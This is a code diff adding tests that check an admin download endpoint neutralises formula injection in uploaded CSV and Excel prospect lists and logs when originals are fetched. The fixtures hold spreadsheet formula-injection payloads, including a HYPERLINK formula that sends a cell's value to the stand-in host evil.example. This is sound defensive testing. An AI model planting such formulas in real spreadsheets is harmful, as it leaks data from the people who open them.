@@ -2,6 +2,7 @@ import fs from 'node:fs';
 import http from 'node:http';
 import path from 'node:path';
 import { Readable } from 'node:stream';
+import ExcelJS from 'exceljs';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { AdminCampaign } from '@ringcast/shared-types';
 import { AgentDocument, AuditLog, ProspectList } from '../src/db/models';
@@ -101,6 +102,62 @@ describe('GET /api/admin/download/:kind/:fileName', () => {
       `/api/admin/download/prospect-list/${encodeURIComponent(row!.prospectListStoredName!)}`,
     );
     expect([res.status, res.text]).toEqual([200, CSV]);
+  });
+
+  it('sends a list whose cells start like formulas as a neutralised copy, and the original only on request', async () => {
+    const risky =
+      'Name,Phone\n"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2125550101\n@SUM(1+1),2125550102\n';
+    const uploaded = await uploadFile(ownerClient, 'risky.csv', risky);
+    expect(uploaded.status).toBe(201);
+    const stored = await ProspectList.findByPk((uploaded.json.prospectList as { id: number }).id, {
+      rejectOnEmpty: true,
+    });
+    const safe = await download('prospect-list', encodeURIComponent(stored.storedFileName));
+    expect(safe.status).toBe(200);
+    expect(safe.headers['content-disposition']).toBe('attachment; filename="risky.csv"');
+    expect(safe.body.toString()).toBe(
+      'Name,Phone\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2125550101\r\n\'@SUM(1+1),2125550102\r\n',
+    );
+    const original = await download(
+      'prospect-list',
+      `${encodeURIComponent(stored.storedFileName)}?original=true`,
+    );
+    expect([original.status, original.body.toString()]).toEqual([200, risky]);
+    const audits = await AuditLog.findAll({
+      where: { action: 'file.download' },
+      order: [['id', 'DESC']],
+      limit: 2,
+    });
+    expect(audits.map((row) => (row.after as { copy: string }).copy)).toEqual(['original', 'neutralised']);
+  });
+
+  it('sends a workbook again with values only: a formula cell keeps what it showed and runs nothing', async () => {
+    const book = new ExcelJS.Workbook();
+    const sheet = book.addWorksheet('Leads');
+    sheet.addRow(['Name', 'Phone']);
+    sheet.addRow([{ formula: 'HYPERLINK("http://evil.example","Ada")', result: 'Ada' }, '2125550103']);
+    sheet.addRow(['=1+1', '2125550104']);
+    const uploaded = await uploadFile(
+      ownerClient,
+      'leads.xlsx',
+      new Uint8Array(await book.xlsx.writeBuffer()),
+    );
+    expect(uploaded.status).toBe(201);
+    const stored = await ProspectList.findByPk((uploaded.json.prospectList as { id: number }).id, {
+      rejectOnEmpty: true,
+    });
+    const safe = await download('prospect-list', encodeURIComponent(stored.storedFileName));
+    expect(safe.status).toBe(200);
+    const copy = new ExcelJS.Workbook();
+    await copy.xlsx.load(safe.body);
+    const cells = copy.worksheets[0]!.getSheetValues()
+      .slice(1)
+      .map((row) => (row as unknown[]).slice(1));
+    expect(cells).toEqual([
+      ['Name', 'Phone'],
+      ['Ada', '2125550103'],
+      ["'=1+1", '2125550104'],
+    ]);
   });
 
   it('serves an agent document with its own type', async () => {
